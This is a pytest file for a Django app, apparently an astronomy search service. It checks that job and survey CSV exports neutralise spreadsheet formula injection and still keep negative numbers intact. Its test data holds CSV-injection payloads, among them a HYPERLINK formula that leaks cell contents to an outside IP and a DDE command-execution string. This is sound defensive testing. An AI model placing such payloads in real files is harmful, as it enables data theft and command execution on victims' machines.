"""CSV exports never hand a spreadsheet a formula: a label that a catalog's owner typed (a published task's
free text) starting with = + - @ is written with a leading apostrophe; numbers, negative ones too, stay."""

import csv
import io
import uuid

import pytest

from inference.models import SearchJob, SearchJobResult, SurveySearch
from inference.tables import SURVEY_COLUMNS
from tests.conftest import api_client, person

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://198.51.100.1/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(line for line in io.StringIO(text) if not line.startswith("#")) for cell in row]


def _unsafe(cells: list[str]) -> list[str]:
    def number(cell):
        try:
            float(cell)
        except ValueError:
            return False
        return True

    return [c for c in cells if c[:1] in ("=", "+", "-", "@") and not number(c)]


def test_a_jobs_csv_neutralises_formulas_and_keeps_negative_numbers(searchable):
    owner = person("vera")
    kb = searchable["lens"]
    spectrum = kb.entries.filter(spectrum__dec__lt=0).first() or kb.entries.first()
    job = SearchJob.objects.create(public_id=uuid.uuid4(), owner=owner, task=kb.task, knowledge_base=kb, total=4)
    for position, label in enumerate(FORMULAS):
        SearchJobResult.objects.create(job=job, position=position, query=label, spectrum=spectrum.spectrum, label=label)
    text = api_client(owner).get(f"/api/v1/jobs/{job.public_id}/results/?format=csv").content.decode()
    cells = _cells(text)
    assert _unsafe(cells) == []
    assert f"'{FORMULAS[0]}" in cells and f"'{FORMULAS[3]}" in cells
    assert f"{spectrum.spectrum.dec}" in text or spectrum.spectrum.dec >= 0  # a negative Dec is a number, kept


def test_a_surveys_csv_neutralises_formulas(searchable, tmp_path):
    kb = searchable["lens"]
    folder = tmp_path / "survey"
    folder.mkdir()
    with open(folder / "part-00000.csv", "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=SURVEY_COLUMNS)
        writer.writeheader()
        for n, label in enumerate(FORMULAS):
            writer.writerow({**dict.fromkeys(SURVEY_COLUMNS, ""), "specobjid": str(n), "label": label, "dec": "-12.5"})
    survey = SurveySearch.objects.create(
        task=kb.task, knowledge_base=kb, labels=FORMULAS, status=SurveySearch.Status.DONE, folder=str(folder)
    )
    response = api_client().get(f"/surveys/{survey.pk}/all.csv")
    text = b"".join(response.streaming_content).decode()
    cells = _cells(text)
    assert _unsafe(cells) == [] and cells.count("-12.5") == len(FORMULAS)
    assert f"'{FORMULAS[1]}" in cells
